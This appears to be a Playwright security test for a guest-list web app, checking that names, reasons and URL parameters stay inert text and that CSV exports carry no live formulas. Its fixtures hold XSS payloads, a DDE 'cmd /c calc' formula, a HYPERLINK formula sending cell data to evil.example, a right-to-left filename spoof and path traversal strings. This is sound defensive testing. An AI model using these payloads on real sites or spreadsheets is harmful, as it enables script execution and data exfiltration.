import type { Page } from "@playwright/test";
import { expect, test } from "../support/test.ts";
import { sheetOf } from "../support/sheet.ts";

test.use({ tenantOptions: { consents: "everything" } });

const OVERRIDE = "\u202E";

/** Names that an inviter could give to a guest, each with a word to find it by. */
const NAMES = [
  `<img src=x onerror="document.title='owned'"> Markup`,
  `<script>document.title='owned'</script> Script`,
  `=HYPERLINK("https://evil.example/?"&A1,"Formula")`,
  `+SUM(1+1)*cmd|'/c calc'!A0 Plus`,
  `-2+3 Minus`,
  `@SUM(A1:A9) At`,
  `\t=1+1 Tab`,
  `javascript:alert(document.domain) Address`,
  `${OVERRIDE}gpj.exe Turned`,
  `"><svg onload=alert(1)> Quote "inside", and; more`,
  "{{constructor.constructor('return 1')()}} ${7*7} Template",
  "ＨＹＰＥＲ ＝1+1 Wide",
];

const HUGE = `Huge ${"ä".repeat(64 * 1024)}`;
const FORMULA = /^[=+\-@\t\r＝＋－＠]/;

/** Nothing that a name said came to life. */
async function inert(page: Page): Promise<void> {
  expect(await page.title()).not.toContain("owned");
  await expect(page.locator("main img, main script, [onerror], [onload]")).toHaveCount(0);
  await expect(page.locator('a[href^="javascript:" i]')).toHaveCount(0);
  expect(await page.evaluate(() => document.body.innerText.includes("\u202E"))).toBe(false);
}

function noFormulaIn(sheet: readonly Record<string, string>[]): void {
  for (const cell of sheet.flatMap((row) => Object.values(row))) {
    expect(cell.slice(0, 80)).not.toMatch(FORMULA);
  }
}

test("A name or an address is only ever text: in the list, the panel, the dialog, the history and in files", async ({
  page,
  reader,
  tenant,
  origins,
}) => {
  test.setTimeout(180_000);
  const alerts: string[] = [];
  page.on("dialog", (dialog) => {
    alerts.push(dialog.message());
    void dialog.dismiss();
  });
  for (const name of [...NAMES, HUGE]) {
    await tenant.addGuest({ name, mail: `m${name.length}@partner.example`, lastSeen: "never" });
  }
  await reader.signIn("Grace Okafor", "/guests?standing=never-signed-in");
  await test.step("The list shows the names as they are written, without what turns text around.", async () => {
    await expect(page.getByText(`${NAMES.length + 1} guests.`)).toBeVisible({ timeout: 20_000 });
    await expect(reader.guestRow("<img src=x")).toBeVisible();
    await expect(reader.guestRow("gpj.exe Turned")).toBeVisible();
    await inert(page);
  });
  await test.step("Each of them can be opened, and is text there too.", async () => {
    for (const found of ["Markup", "> Script", "Address", "Turned", "Huge"]) {
      await reader.guestRow(found).getByRole("gridcell").nth(1).click();
      await expect(reader.panel().getByRole("heading", { level: 2 })).toContainText(found);
      await inert(page);
    }
    await reader.panel().getByRole("button", { name: "Close" }).click();
    await expect(reader.panel()).toHaveCount(0);
  });
  await test.step("No cell of the list's file starts a formula.", async () => {
    const guests = sheetOf(await reader.exportCsv());
    expect(guests).toHaveLength(NAMES.length + 1);
    noFormulaIn(guests);
    const names = guests.map((row) => row.Name ?? "");
    expect(names.some((name) => name.startsWith(`'=HYPERLINK(`))).toBe(true);
    expect(names.some((name) => name.includes(OVERRIDE))).toBe(false);
    expect(names.find((name) => name.startsWith("Huge"))).toHaveLength(HUGE.length);
  });
  await test.step("Keep them all: the dialog, its outcomes and the history show text.", async () => {
    await reader.selectAll();
    await reader.decide("Keep", `${OVERRIDE}=1+1 <b>because</b>`);
    await expect(reader.guestsInPlan()).toHaveCount(NAMES.length + 1);
    await inert(page);
    await reader.confirm(new RegExp(`^Keep ${NAMES.length + 1} guests$`));
    await expect(reader.outcomes()).toHaveCount(NAMES.length + 1);
    await reader.closeOutcomes();
    await reader.openHistory();
    await expect(reader.entries()).toHaveCount(NAMES.length + 1);
    await inert(page);
    await reader.entries().filter({ hasText: "Markup" }).getByRole("button").click();
    await expect(page.getByRole("dialog")).toContainText("<b>because</b>");
    await inert(page);
    await page.getByRole("dialog").getByRole("button", { name: "Close" }).click();
  });
  await test.step("Nor does a cell of the history's file.", async () => {
    const history = sheetOf(await reader.exportCsv());
    expect(history).toHaveLength(NAMES.length + 1);
    noFormulaIn(history);
  });
  await test.step("What stands in the address is text too.", async () => {
    for (const address of [
      "/guests?q=%3Cimg%20src%3Dx%20onerror%3Ddocument.title%3D'owned'%3E",
      "/guests?standing=%3Cscript%3E&partner=javascript:alert(1)&guest=..%2F..%2Fme",
      "/history?entry=%22%3E%3Csvg%20onload%3Dalert(1)%3E&guest=%3Cb%3E",
    ]) {
      await page.goto(address);
      await expect(page.getByRole("heading", { level: 1 })).toBeVisible({ timeout: 30_000 });
      await inert(page);
    }
  });
  await test.step("Nobody was asked anything, and nothing was fetched from elsewhere.", () => {
    expect(alerts).toEqual([]);
    expect([...origins].filter((origin) => origin.includes("evil"))).toEqual([]);
  });
});
